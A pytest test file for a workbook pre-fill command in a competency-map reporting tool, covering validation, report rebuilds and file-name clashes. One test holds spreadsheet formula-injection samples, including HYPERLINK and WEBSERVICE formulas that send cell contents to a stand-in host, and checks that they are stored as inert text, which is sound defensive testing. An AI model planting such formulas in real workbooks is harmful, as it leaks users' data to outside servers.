"""prefill.py and `new-workbook --from`: last round's map in the standard workbook, which checks
clean and builds into the same chapters."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText

from competency_maps.inputs import config
from competency_maps.messages import render
from competency_maps.dataset import records as dataset
from competency_maps.report.assemble import assemble
from competency_maps.xlsx.blank import make_blank_workbook
from competency_maps.errors import ReportError
from competency_maps.model.cluster import Note
from competency_maps.model.richtext import Block, BlockKind, Span
from competency_maps.report.content import chapter
from competency_maps.inputs.gather import gather
from competency_maps.xlsx.prefill import targets_in, workbook_bytes
from competency_maps.inputs.reader import read_workbook
from competency_maps.render.docx.render import render_docx
from golden import outline
from recording import run
from reports import INPUTS, sample_content, sample_gathered, sample_pdf


@pytest.mark.slow
def test_each_sample_cluster_prefilled_checks_clean_and_builds_the_same_chapter(tmp_path, comparable):
    sent = tmp_path / "to-send"
    code, printed = run("--inputs", INPUTS, "new-workbook", "--all", "--from", INPUTS, "-o", sent)
    assert code == 0, printed
    files = sorted(sent.iterdir())
    assert [p.name for p in files] == ["E-Mobility-Cluster-competency-map.xlsx", "Mobinov-competency-map.xlsx",
                                       "Mov-eo-competency-map.xlsx",
                                       "RAI-Automotive-Industry-NL-competency-map.xlsx",
                                       "Zone-Cluster-competency-map.xlsx"]
    returned = tmp_path / "inputs"  # the same deliverable, the pre-filled workbooks sent back as they are
    originals = {p.name for p in _workbooks()}
    shutil.copytree(INPUTS, returned, ignore=lambda d, names: [n for n in names if n in originals])
    for f in files:
        shutil.copy(f, returned)
    g, original = gather(returned), sample_gathered()
    assert g.all_issues == []  # checks clean: no error, no warning, no information line
    assert [c.name for c in g.clusters] == [c.name for c in original.clusters]
    for before, after in zip(original.clusters, g.clusters):
        assert comparable(after) == comparable(before)
        assert chapter(after, g.deliverable) == chapter(before, original.deliverable)
    # the build: the same Word file as the original's, byte for byte (so its chapters' text too), both
    # with the contents numbers of the same PDF
    pdf = sample_pdf()
    docx, expected = render_docx(assemble(g), pdf.anchors), render_docx(sample_content(), pdf.anchors)
    assert outline(docx) == outline(expected) and docx == expected


def _workbooks() -> list[Path]:
    from competency_maps.inputs.gather import workbook_files
    return workbook_files(INPUTS)


def _loaded(wb_or_bytes):
    if not isinstance(wb_or_bytes, bytes):
        buf = io.BytesIO()
        wb_or_bytes.save(buf)
        wb_or_bytes = buf.getvalue()
    return load_workbook(io.BytesIO(wb_or_bytes), rich_text=True)


@pytest.mark.slow
def test_a_prefilled_workbook_is_the_standard_workbook_holding_the_data(schema, sample_cluster):
    filled = _loaded(workbook_bytes(schema, sample_cluster))
    blank = _loaded(make_blank_workbook(schema, sample_cluster.name))
    assert filled.sheetnames == blank.sheetnames
    assert filled.active.title == blank.active.title
    for ws in blank.worksheets:
        other = filled[ws.title]
        assert other.sheet_state == ws.sheet_state and other.protection.sheet == ws.protection.sheet
        assert [(str(v.sqref), v.type, v.formula1) for v in other.data_validations.dataValidation] == \
            [(str(v.sqref), v.type, v.formula1) for v in ws.data_validations.dataValidation]
        assert [str(r.sqref) for r in other.conditional_formatting] == [str(r.sqref) for r in ws.conditional_formatting]
    assert [[c.value for c in r] for r in filled["Read me"].iter_rows()] == \
        [[c.value for c in r] for r in blank["Read me"].iter_rows()]
    assert isinstance(filled["SWOT"]["D3"].value, CellRichText)  # bold kept in the cell


@pytest.fixture
def export_file(tmp_path, sample_cluster) -> Path:
    path = tmp_path / "last-year.json"
    path.write_bytes(dataset.dumps(dataset.to_data([sample_cluster])))
    return path


def test_from_an_export_the_workbook_reads_back_as_the_same_cluster(tmp_path, export_file, schema,
                                                                   sample_cluster, comparable):
    out = tmp_path / "test.xlsx"
    r = run("--inputs", INPUTS, "new-workbook", "TEST CLUSTER", "--from", export_file, "-o", out)
    [wrote] = r.lines("console.new_workbook.prefilled")
    assert r.code == 0 and (wrote["file"], wrote["cluster"]) == (str(out), "Test Cluster")
    assert (wrote["swot"].params, wrote["tows"].params) == ({"count": 24}, {"count": 12})
    res = read_workbook(out, schema)
    assert res.issues == [] and comparable(res.cluster) == comparable(sample_cluster)


def test_what_this_deliverable_no_longer_has_is_said(tmp_path, sample_cluster):
    old = replace(sample_cluster, swot=[replace(sample_cluster.swot[0], topic="Last year's topic", theme="Gone")])
    src = tmp_path / "old.json"
    src.write_bytes(dataset.dumps(dataset.to_data([old])))
    r = run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", src, "-o", tmp_path / "x.xlsx")
    assert r.code == 0
    assert r.lines("console.new_workbook.outdated.topics") == [{"count": 1, "names": ["Last year's topic"]}]
    assert r.lines("console.new_workbook.outdated.themes") == [{"count": 1, "names": ["Gone"]}]


def test_an_unknown_name_says_which_clusters_there_are(tmp_path, export_file):
    r = run("--inputs", INPUTS, "new-workbook", "Nope", "--from", export_file, "-o", tmp_path / "x.xlsx")
    assert r.code == 1 and r.lines("console.new_workbook.unknown") == [
        {"cluster": "Nope", "source": str(export_file), "names": ["Test Cluster"]}]
    assert not (tmp_path / "x.xlsx").exists()


def test_an_existing_file_is_kept_unless_forced(tmp_path, export_file):
    target = tmp_path / "x.xlsx"
    target.write_bytes(b"a partner's returned workbook")
    r = run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", export_file, "-o", target)
    assert r.code == 1 and [i.code for i in r.issues] == ["new_workbook.prefilled.exists"]
    assert target.read_bytes() == b"a partner's returned workbook"
    assert run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", export_file, "-o", target,
               "--force")[0] == 0
    written = load_workbook(target, read_only=True)  # its sheets' names alone
    assert written.sheetnames[0] == "Read me"
    written.close()


@pytest.mark.parametrize("argv", [["new-workbook", "--all", "--from", "inputs"],
                                  ["new-workbook", "X", "--all", "--from", "inputs", "-o", "d"],
                                  ["new-workbook", "--all", "-o", "d"], ["new-workbook"]])
def test_all_or_a_name_is_a_usage_question(argv, capsys):
    assert run(*argv)[0] == 2
    assert "new-workbook" in capsys.readouterr().err


def test_a_source_that_is_neither_a_folder_nor_an_export_is_said(tmp_path):
    (tmp_path / "data.csv").write_text("cluster\n")
    code, printed = run("new-workbook", "X", "--from", tmp_path / "data.csv", "-o", tmp_path / "x.xlsx")
    assert code == 1 and f"{tmp_path / 'data.csv'}: {render('prefill.source.kind', {}).message}" in printed
    (tmp_path / "data.json").write_text("{")
    code, printed = run("new-workbook", "X", "--from", tmp_path / "data.json", "-o", tmp_path / "x.xlsx")
    assert code == 1 and f"ERROR {tmp_path / 'data.json'}: " in printed
    with pytest.raises(dataset.DatasetError) as e:
        dataset.load(tmp_path / "data.json")
    assert e.value.code == "dataset.not_json"
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.slow
def test_all_writes_nothing_while_a_source_workbook_has_errors(tmp_path):
    src = tmp_path / "last-year"
    src.mkdir()
    for name in ("mobinov.xlsx", "zone.xlsx"):
        shutil.copy(INPUTS / name, src)
    wb = load_workbook(src / "zone.xlsx", rich_text=True)
    wb["SWOT"]["B2"] = "Strenght"
    wb.save(src / "zone.xlsx")
    r = run("--inputs", INPUTS, "new-workbook", "--all", "--from", src, "-o", tmp_path / "out")
    [unusable] = r.lines("console.new_workbook.unusable")
    assert r.code == 1 and unusable["file"] == "zone.xlsx" and unusable["errors"].params == {"count": 1}
    assert r.lines("console.new_workbook.nothing") == [{"folder": str(src)}]
    assert not (tmp_path / "out").exists()
    # one cluster that reads is still pre-filled on its own
    assert run("--inputs", INPUTS, "new-workbook", "Mobinov", "--from", src, "-o", tmp_path / "m.xlsx")[0] == 0


def test_the_deliverable_config_gives_the_dropdowns(tmp_path, export_file):
    out = tmp_path / "x.xlsx"
    assert run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", export_file, "-o", out)[0] == 0
    themes = config.load(INPUTS).theme_names
    header = [c.value for c in load_workbook(out)["SWOT"][1]]
    assert header[-1] == "Theme" and themes  # the deliverable's synthesis themes, as in a blank one


FORMULAS = ('=HYPERLINK("http://example.org/?leak=1","click")', '=WEBSERVICE("http://example.org/"&A1)',
            "#N/A", "=1+1")


def test_an_entry_typed_as_a_formula_is_written_back_as_text(tmp_path, sample_cluster, schema, comparable):
    """new-workbook --from: every cell the partner typed as "=…" is a string cell, and `check` on the
    pre-filled file finds no formula."""
    swot = [replace(e, text=(Span(FORMULAS[k % len(FORMULAS)]),), group=FORMULAS[0] if k == 0 else e.group)
            for k, e in enumerate(sample_cluster.swot)]
    tows = [replace(sample_cluster.tows[0], text=(Span(FORMULAS[1]),)), *sample_cluster.tows[1:]]
    step1 = [replace(sample_cluster.step1[1], text=(Span(FORMULAS[0]),)), *sample_cluster.step1[2:]]
    notes = [Note(FORMULAS[3], (Block(BlockKind.PARAGRAPH, (Span(FORMULAS[1]),)),), "de")]
    hostile = replace(sample_cluster, profile=replace(sample_cluster.profile, full_name=FORMULAS[1],
                                                      about=(Span(FORMULAS[0]),)),
                      swot=swot, tows=tows, step1=step1, step2_notes=notes)
    source = tmp_path / "last-year.json"
    source.write_bytes(dataset.dumps(dataset.to_data([hostile])))
    out = tmp_path / "test.xlsx"
    code, printed = run("--inputs", INPUTS, "new-workbook", "Test Cluster", "--from", source, "-o", out)
    assert code == 0, printed
    wb = load_workbook(out)
    typed_cells = [c for ws in wb.worksheets if ws.title not in ("Summary", "Read me")
                   for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value in FORMULAS]
    assert len(typed_cells) >= len(swot) + 5
    assert {c.data_type for c in typed_cells} == {"s"}, [(c.parent.title, c.coordinate, c.data_type)
                                                        for c in typed_cells if c.data_type != "s"]
    with zipfile.ZipFile(out) as z:  # the only formulas are the workbook's own (Summary's counts)
        formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
                    for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())]
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "WEBSERVICE" in f or f == "1+1"]
    res = read_workbook(out, schema)
    assert res.errors == [] and comparable(res.cluster)[2] == comparable(hostile)[2]
    code, printed = run("--inputs", INPUTS, "check", out)
    assert code == 0, printed


def _export_of(tmp_path: Path, clusters) -> Path:
    path = tmp_path / "two.json"
    path.write_bytes(dataset.dumps(dataset.to_data(clusters)))
    return path


def test_two_clusters_making_one_file_name_are_an_error_and_nothing_is_written(tmp_path, sample_cluster):
    lodz, lodz_ascii = (replace(sample_cluster, profile=replace(sample_cluster.profile, short_name=n))
                        for n in ("Łódź Cluster", "Lodz cluster"))
    with pytest.raises(ReportError) as e:
        targets_in([lodz, lodz_ascii], tmp_path)
    assert e.value.code == "prefill.same_file"
    assert (e.value.params["first"], e.value.params["second"]) == ("'Łódź Cluster'", "'Lodz cluster'")
    sent = tmp_path / "to-send"
    code, printed = run("--inputs", INPUTS, "new-workbook", "--all", "--from", _export_of(tmp_path, [lodz, lodz_ascii]),
                        "-o", sent)
    assert code == 1 and "'Łódź Cluster'" in printed and "'Lodz cluster'" in printed
    assert not sent.exists() or not list(sent.iterdir())


@pytest.mark.parametrize("source", ["json", "folder"])
def test_zone_cluster_and_zone_hyphen_cluster_are_one_cluster_named_twice(tmp_path, sample_cluster, make_workbook,
                                                                         source):
    a, b = (replace(sample_cluster, profile=replace(sample_cluster.profile, short_name=n))
            for n in ("Zone Cluster", "Zone-Cluster"))
    if source == "json":
        src = _export_of(tmp_path, [a, b])
    else:
        src = tmp_path / "returned"
        src.mkdir()
        make_workbook(src, a, name="zone.xlsx")
        make_workbook(src, b, name="zone-old.xlsx")
    sent = tmp_path / "to-send"
    code, printed = run("--inputs", INPUTS, "new-workbook", "--all", "--from", src, "-o", sent)
    assert code == 1 and not sent.exists(), printed
    names_both = ("zone.xlsx", "zone-old.xlsx") if source == "folder" else ("'Zone-Cluster'", "clusters[0].name")
    assert all(n in printed for n in names_both), printed
